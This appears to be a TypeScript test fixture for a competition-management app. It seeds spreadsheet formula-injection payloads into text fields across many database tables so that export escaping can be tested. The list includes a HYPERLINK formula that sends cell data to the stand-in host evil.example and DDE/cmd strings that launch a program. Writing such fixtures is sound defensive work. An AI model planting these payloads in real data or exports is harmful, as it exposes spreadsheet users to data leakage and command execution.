/** Texts that a spreadsheet would run, and plants them wherever a list takes its words from. */
import { eq } from "drizzle-orm";
import { tables as t } from "#db/schema/index.ts";
import type { Tx } from "#db/store/store.ts";

export const FORMULAS: readonly string[] = [
  '=HYPERLINK("https://evil.example/?"&A1,"click")',
  "=1+1",
  "+1+1",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  '=DDE("cmd";"/C calc";"x")',
  "＝1+1",
  "safe;=1+1",
  'safe",=1+1,"',
];

type Row = { readonly id: string };

/** A different one in each row, so that each meets each list. */
export async function plantFormulas(tx: Tx): Promise<void> {
  let planted = 0;
  const next = () => FORMULAS[planted++ % FORMULAS.length] ?? "=1+1";
  const each = async (rows: readonly Row[], plant: (id: string) => PromiseLike<unknown>) => {
    for (const { id } of rows) await plant(id);
  };
  await each(await tx.select({ id: t.applications.id }).from(t.applications), (id) =>
    tx.update(t.applications).set({ title: next() }).where(eq(t.applications.id, id)),
  );
  for (const { id, answers } of await tx.select().from(t.submissions))
    await tx
      .update(t.submissions)
      .set({
        title: next(),
        answers: Object.fromEntries(Object.keys(answers).map((name) => [name, next()])),
      })
      .where(eq(t.submissions.id, id));
  await each(await tx.select({ id: t.entrants.id }).from(t.entrants), (id) =>
    tx.update(t.entrants).set({ name: next() }).where(eq(t.entrants.id, id)),
  );
  await each(await tx.select({ id: t.categories.id }).from(t.categories), (id) =>
    tx.update(t.categories).set({ name: next() }).where(eq(t.categories.id, id)),
  );
  await each(await tx.select({ id: t.rounds.id }).from(t.rounds), (id) =>
    tx.update(t.rounds).set({ name: next() }).where(eq(t.rounds.id, id)),
  );
  await each(await tx.select({ id: t.prizes.id }).from(t.prizes), (id) =>
    tx.update(t.prizes).set({ name: next() }).where(eq(t.prizes.id, id)),
  );
  await each(await tx.select({ id: t.judges.id }).from(t.judges), (id) =>
    tx.update(t.judges).set({ name: next(), title: next() }).where(eq(t.judges.id, id)),
  );
  await each(await tx.select({ id: t.clauses.id }).from(t.clauses), (id) =>
    tx.update(t.clauses).set({ title: next() }).where(eq(t.clauses.id, id)),
  );
  await each(await tx.select({ id: t.findings.id }).from(t.findings), (id) =>
    tx.update(t.findings).set({ note: next(), evidence: next() }).where(eq(t.findings.id, id)),
  );
  await each(await tx.select({ id: t.users.id }).from(t.users), (id) =>
    tx.update(t.users).set({ name: next() }).where(eq(t.users.id, id)),
  );
  await each(await tx.select({ id: t.achievements.id }).from(t.achievements), (id) =>
    tx
      .update(t.achievements)
      .set({ name: next(), entrant: next(), citation: next() })
      .where(eq(t.achievements.id, id)),
  );
  await each(await tx.select({ id: t.auditEntries.id }).from(t.auditEntries), (id) =>
    tx.update(t.auditEntries).set({ subject: next() }).where(eq(t.auditEntries.id, id)),
  );
  await each(await tx.select({ id: t.mails.id }).from(t.mails), (id) =>
    tx.update(t.mails).set({ recipient: next(), subject: next() }).where(eq(t.mails.id, id)),
  );
}
